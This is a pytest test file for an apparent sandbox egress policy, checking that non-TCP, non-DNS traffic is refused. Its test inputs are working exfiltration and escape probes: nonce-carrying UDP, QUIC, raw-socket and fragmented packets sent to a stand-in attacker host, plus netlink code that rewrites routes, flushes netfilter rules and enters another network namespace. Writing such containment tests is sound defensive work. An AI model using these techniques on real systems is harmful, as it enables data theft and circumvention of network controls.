"""What isn't TCP or DNS stays in the box, and its sender is told at once: so QUIC falls back to TCP."""

import pytest
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

from box_policy.policy.reasons import Reason
from tests.adversary.arena import Arena, ids
from tests.adversary.asking import NOT_ALLOWED, Message, in_words, question
from tests.adversary.attack import CUSTOM, Act, Attack
from tests.adversary.attacker import Attacker, Seen
from tests.adversary.in_the_box import runs, sends_datagram, together
from tests.lab import plan

pytestmark = pytest.mark.asyncio(loop_scope="module")

GROUP = "Other protocols"

PLACES = {
    "the attacker": plan.EVIL4,
    "the attacker's IPv6 address": plan.EVIL6,
    "an allowed name's address": plan.ALLOWED4,
    "an allowed name's IPv6 address": plan.ALLOWED6,
    "an allowed range": plan.CIDR4,
    "a private address": plan.PRIVATE4,
    "a metadata service": plan.METADATA4,
    "a public resolver": "8.8.8.8",
    "the gate's own address": plan.GATE4,
}
PORTS = (1, 123, 137, 443, 500, 784, 853, 1194, 3478, 4433, 5353, 5355, 8853, 51820, 65535)
DNS_LISTENER = 61053


def secret(box: Attacker) -> bytes:
    return b"\0\0\0\0" + box.nonce.encode()


def quic_initial(name: str) -> Message:
    """A client's first datagram, with the secret in its token: all else of it is encrypted."""

    def datagram(box: Attacker) -> bytes:
        configuration = QuicConfiguration(server_name=name, alpn_protocols=["h3"], token=box.nonce.encode())
        connection = QuicConnection(configuration=configuration)
        connection.connect((plan.EVIL4, 443), now=0)
        return connection.datagrams_to_send(now=0)[0][0]

    return datagram


def listener_asked(address: str) -> Act:
    async def act(box: Attacker) -> Seen:
        return in_words(await box.datagram(address, DNS_LISTENER, question("NONCE.evil.test")(box)))

    return act


SOCKET_FOR_ALL = """
sock4, sock6 = opened(socket.AF_INET, socket.SOCK_DGRAM), opened(socket.AF_INET6, socket.SOCK_DGRAM)
sock4.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
"""
TRIED = """
try:
    {}
    result = "done"
except socket.timeout:
    raise
except OSError:
    result = "refused"
"""

# Sockets that carry something else, or of which the program makes the headers.
SOCKETS = {
    "an ICMP echo": ("EACCES", "raw(1, socket.SOCK_DGRAM)"),
    "an ICMPv6 echo": ("EACCES", "raw6(58, socket.SOCK_DGRAM)"),
    "raw ICMP": ("EPERM", "raw(1)"),
    "raw ICMPv6": ("EPERM", "raw6(58)"),
    "raw TCP": ("EPERM", "raw(6)"),
    "raw TCP over IPv6": ("EPERM", "raw6(6)"),
    "raw UDP": ("EPERM", "raw(17)"),
    "IP in IP": ("EPERM", "raw(4)"),
    "IPv6 in IP": ("EPERM", "raw(41)"),
    "GRE": ("EPERM", "raw(47)"),
    "ESP": ("EPERM", "raw6(50)"),
    "a protocol for experiments": ("EPERM", "raw(253)"),
    "a first fragment without ports": ("EPERM", "packet(0x2000)"),
    "a later fragment without a first": ("EPERM", "packet(0x0040)"),
    "a packet with a made-up source": ("EPERM", "packet(0)"),
    "frames": ("EAFNOSUPPORT", "opened(17, socket.SOCK_RAW, 0x0300)"),
    "a virtual machine's socket": ("EAFNOSUPPORT", "opened(40, socket.SOCK_STREAM)"),
    "XDP": ("EAFNOSUPPORT", "opened(44, socket.SOCK_RAW)"),
    "Bluetooth": ("EAFNOSUPPORT", "opened(31, socket.SOCK_RAW, 1)"),
    "CAN": ("EAFNOSUPPORT", "opened(29, socket.SOCK_RAW, 1)"),
    "TIPC": ("EAFNOSUPPORT", "opened(30, socket.SOCK_STREAM)"),
    "RDS": ("EAFNOSUPPORT", "opened(21, socket.SOCK_SEQPACKET)"),
    "key management": ("EAFNOSUPPORT", "opened(15, socket.SOCK_RAW, 2)"),
}

RAW = f"""
EVIL, EVIL6 = ({plan.EVIL4!r}, 0), ({plan.EVIL6!r}, 0)
def raw(protocol, kind=socket.SOCK_RAW):
    opened(socket.AF_INET, kind, protocol).sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + NONCE, EVIL)
def raw6(protocol, kind=socket.SOCK_RAW):
    opened(socket.AF_INET6, kind, protocol).sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]) + NONCE, EVIL6)
def packet(fragment):
    addresses = socket.inet_aton("8.8.8.8") + socket.inet_aton(EVIL[0])
    header = struct.pack("!BBHHHBBH", 0x45, 0, 36, 1, fragment, 64, 17, 0) + addresses
    opened(socket.AF_INET, socket.SOCK_RAW, 255).sendto(header + NONCE, EVIL)
"""

# What would change the way out, or pretend to be another.
POWERS = {
    "a mark on its packets": "tcp.setsockopt(socket.SOL_SOCKET, 36, 1)",
    "a transparent socket": "tcp.setsockopt(socket.IPPROTO_IP, 19, 1)",
    "a transparent IPv6 socket": "tcp6.setsockopt(socket.IPPROTO_IPV6, 75, 1)",
    "a connection under repair": "tcp.setsockopt(socket.IPPROTO_TCP, 19, 1)",
    "priority over all": "tcp.setsockopt(socket.SOL_SOCKET, 12, 7)",
    "a receive buffer past the limit": "tcp.setsockopt(socket.SOL_SOCKET, 33, 1 << 30)",
    "hop-by-hop options": "tcp6.setsockopt(socket.IPPROTO_IPV6, 54, bytes(8))",
    "destination options": "tcp6.setsockopt(socket.IPPROTO_IPV6, 59, bytes(8))",
    "a route": "netlink(0, 24, struct.pack('=8BI', 2, 0, 0, 0, 254, 3, 253, 1, 0))",
    "no route": "netlink(0, 25, struct.pack('=8BI', 2, 0, 0, 0, 254, 3, 253, 1, 0))",
    "an address": "netlink(0, 20, struct.pack('=4BI', 2, 32, 0, 0, 1) + attribute(2, bytes([8, 8, 8, 8])))",
    "an interface": "netlink(0, 16, struct.pack('=BxHiII', 0, 0, 0, 0, 0) + attribute(3, b'dummy0\\0'))",
}

# The same, where it depends on the kernel how it is refused.
OTHERS = {
    "SCTP": "opened(socket.AF_INET, socket.SOCK_STREAM, 132).connect(EVIL)",
    "SCTP over IPv6": "opened(socket.AF_INET6, socket.SOCK_STREAM, 132).connect(EVIL6)",
    "UDP-Lite": "opened(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(NONCE, EVIL)",
    "UDP-Lite over IPv6": "opened(socket.AF_INET6, socket.SOCK_DGRAM, 136).sendto(NONCE, EVIL6)",
    "DCCP": "opened(socket.AF_INET, 6, 33).connect(EVIL)",
    "another network namespace": "setns('/proc/1/ns/net')",
    "no connection tracking": "netlink(12, 1 << 8 | 2, b'\\2\\0\\0\\0')",
    "no rules": "netfilter(2, b'box\\0')",
    "IPsec": "netlink(6, 0x13, bytes(168))",
    "the end of the gate's connections": "netlink(4, 21, struct.pack('=4BI', 2, 6, 0, 0, 0xFFF) + bytes(48))",
}

NETLINK = (
    f"""
EVIL, EVIL6 = ({plan.EVIL4!r}, 443), ({plan.EVIL6!r}, 443)
"""
    + """
import ctypes
tcp, tcp6 = opened(socket.AF_INET), opened(socket.AF_INET6)
def setns(path):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(os.open(path, os.O_RDONLY), 0):
        raise OSError(ctypes.get_errno(), "")
def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
def netlink(family, kind, payload, flags=0x605):
    sock = opened(16, socket.SOCK_RAW, family)
    sock.bind((0, 0))
    sock.send(struct.pack("=IHHII", 16 + len(payload), kind, flags, 1, 0) + payload)
    answer = sock.recv(4096)
    code, = struct.unpack_from("=i", answer, 16)
    if struct.unpack_from("=H", answer, 4)[0] != 2 or code:
        raise OSError(-code if code < 0 else 0, "")
def netfilter(kind, table):
    inner = struct.pack("=BBH", 1, 0, 0) + attribute(1, table)
    def message(kind, payload, flags):
        return struct.pack("=IHHII", 16 + len(payload), kind, flags, 1, 0) + payload
    sock = opened(16, socket.SOCK_RAW, 12)
    sock.bind((0, 0))
    mark = struct.pack("=BBH", 0, 0, 0x0A00)
    sock.send(message(16, mark, 1) + message(10 << 8 | kind, inner, 5) + message(17, mark, 1))
    code, = struct.unpack_from("=i", sock.recv(4096), 16)
    if code:
        raise OSError(-code, "")
"""
)
FRAGMENTS = f"""
sock = opened(socket.AF_INET6, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IPV6, 24, 1280)  # IPV6_MTU
sock.connect(({plan.EVIL6!r}, {{port}}))
sock.send(NONCE * 250)
result = "sent"
"""

ATTACKS = [
    *(
        Attack(
            name=f"datagrams to {what}{when}",
            act=together(*(sends_datagram(address, port, secret) for port in PORTS)),
            policy=policy,
            sees="EPERM",
            reasons=(),
        )
        for when, policy in (("", CUSTOM), (", while all is allowed", "allow-all"))
        for what, address in PLACES.items()
    ),
    *(
        Attack(
            name=f"QUIC to {what}, for {name}",
            act=sends_datagram(address, 443, quic_initial(name)),
            sees="EPERM",
            reasons=(),
        )
        for name in ("evil.test", "allowed.test")
        for what, address in list(PLACES.items())[:5]
    ),
    Attack(
        name="a datagram in fragments",
        act=runs(FRAGMENTS.format(port=443)),
        sees="EPERM",
        reasons=(),
    ),
    Attack(
        name="a datagram in fragments to port 53",
        act=runs(FRAGMENTS.format(port=53)),
        sees="sent",
        reasons=(Reason.QUESTION_INVALID,),
    ),
    Attack(
        name="questions to everyone nearby",
        act=together(
            *(
                runs(
                    SOCKET_FOR_ALL
                    + TRIED.format(f"sock{6 if ':' in place[0] else 4}.sendto(QUESTION, {place})"),
                    QUESTION=question("NONCE.local"),
                )
                for place in (
                    *(("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900)),
                    *(("255.255.255.255", 137), ("10.0.2.255", 137), ("10.0.2.3", 137)),
                    *(("ff02::fb", 5353, 0, 1), ("ff02::1:3", 5355, 0, 1), ("ff05::2", 5353, 0, 0)),
                )
            )
        ),
        sees="refused",
        reasons=(),
    ),
    *(
        Attack(
            name=f"a denied question to the gate's listener {address}",
            act=listener_asked(address),
            sees=NOT_ALLOWED,
            reasons=(Reason.NAME_NOT_ALLOWED,),
        )
        for address in ("127.0.0.1", "::1")
    ),
    *(
        Attack(name=what, act=runs(f"{RAW}\n{source}\nresult = 'done'"), sees=error, reasons=())
        for what, (error, source) in SOCKETS.items()
    ),
    *(
        Attack(name=what, act=runs(f"{NETLINK}\n{source}\nresult = 'done'"), sees="EPERM", reasons=())
        for what, source in POWERS.items()
    ),
    *(
        Attack(name=what, act=runs(NETLINK + TRIED.format(source)), sees="refused", reasons=())
        for what, source in OTHERS.items()
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=ids(ATTACKS))
async def test_attack(arena: Arena, attack: Attack) -> None:
    await arena.contains(attack)
